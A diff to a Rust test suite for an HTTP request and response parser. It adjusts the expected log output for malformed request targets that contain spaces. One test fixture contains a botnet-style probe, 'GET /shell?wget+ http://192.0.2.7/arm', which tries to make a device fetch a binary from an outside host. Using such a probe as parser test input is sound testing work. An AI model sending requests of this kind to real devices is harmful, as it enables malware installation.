@@ -341,7 +341,7 @@ const DIALOGUES: &[(&str, &str, &[&str])] = &[
           >>> FOO /\xff HTTP/1.1\nHost: x\nbad line\n\n
           <<< HTTP/1.1 501 What\nContent-Length: 0\n\n",
         &[
-            "GET /a b 200 0>0 whole obs_fold,space_before_colon,request_line_invalid,target_invalid,status_line_invalid",
+            "GET /a 200 0>0 whole obs_fold,space_before_colon,request_line_invalid,target_invalid,status_line_invalid",
             r"FOO /\xff 501 0>0 whole bare_lf,header_line_invalid,method_unknown,target_invalid",
         ],
     ),
@@ -578,7 +578,7 @@ const MIDSTREAM: &[(&str, &str, &[&str])] = &[
         "a target with spaces",
         r">>> GET /shell?wget+ http://192.0.2.7/arm HTTP/1.1\r\nHost: x\r\n\r\n",
         &[
-            "GET /shell?wget+ http://192.0.2.7/arm - 0>0 response_missing,midstream,request_line_invalid,target_invalid",
+            "GET /shell?wget+ - 0>0 response_missing,midstream,request_line_invalid,target_invalid",
         ],
     ),
 ];
